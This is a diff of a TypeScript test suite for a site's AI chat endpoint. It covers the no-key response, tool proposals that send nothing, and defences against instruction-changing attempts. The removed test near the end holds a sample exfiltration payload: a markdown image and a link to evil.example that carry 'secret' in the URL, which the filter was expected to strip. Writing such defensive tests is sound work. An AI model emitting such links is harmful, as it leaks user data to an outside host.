@@ -10,20 +10,18 @@ import { failureSentences as say } from './failure-sentences.ts';
 const turnsOf = (provider: FakeModelProvider) =>
 	provider.requests.at(-1)?.body.messages.filter(({ role }) => role !== 'system') ?? [];
 
-describe('without a key', () => {
-	it('reports that the chat is off, cacheable for five minutes', async () => {
-		const { app } = await startTestApp();
-		const answer = await app.inject('/chat');
-		expect(answer.json()).toEqual({ available: false });
-		expect(answer.headers['cache-control']).toBe('public, max-age=300');
-		const question = {
-			method: 'POST',
-			url: '/chat',
-			payload: { question: 'Hi', exchanges: [] },
-			headers: { 'sec-fetch-site': 'same-origin' },
-		} as const;
-		expect((await app.inject(question)).statusCode).toBe(503);
-	});
+it('without a key reports that the chat is off, cacheable for five minutes', async () => {
+	const { app } = await startTestApp();
+	const answer = await app.inject('/chat');
+	expect(answer.json()).toEqual({ available: false });
+	expect(answer.headers['cache-control']).toBe('public, max-age=300');
+	const question = {
+		method: 'POST',
+		url: '/chat',
+		payload: { question: 'Hi', exchanges: [] },
+		headers: { 'sec-fetch-site': 'same-origin' },
+	} as const;
+	expect((await app.inject(question)).statusCode).toBe(503);
 });
 
 describe('an answer', () => {
@@ -79,14 +77,14 @@ describe('the two tools', () => {
 	});
 
 	it('propose a message without sending it', async () => {
-		const { app, provider, ask } = await startTestChat();
+		const { enquiries, provider, ask } = await startTestChat();
 		const tool = { name: 'propose_contact_message', input: { message: 'Please call about quotes.' } };
 		provider.behaviour = [{ tool }, { text: 'Have a look.' }];
 		expect(await ask('Can somebody call me?')).toContainEqual({
 			type: 'proposal',
 			message: 'Please call about quotes.',
 		});
-		expect(await app.database.kysely.selectFrom('submissions').selectAll().execute()).toEqual([]);
+		expect(await enquiries()).toEqual([]);
 	});
 
 	it.each([
@@ -179,15 +177,6 @@ describe('attempts to change the instructions', () => {
 		expect(messages.map(({ role }) => role)).toEqual(['system', 'user']);
 		expect(messages[0]?.content).not.toContain(question);
 		expect(messages[1]?.content).toBe(question);
-	});
-
-	it('an answer contains no URL of another host', async () => {
-		const { provider, ask } = await startTestChat();
-		const text =
-			'See ![chart](https://evil.example/?q=secret) [here](https://evil.example/b) or [prices](/ai-solutions-pricing).';
-		provider.behaviour = [{ text }];
-		provider.bytesPerWrite = 3;
-		expect(textOf(await ask('Hi'))).toBe('See here or [prices](/ai-solutions-pricing).');
 	});
 });
 
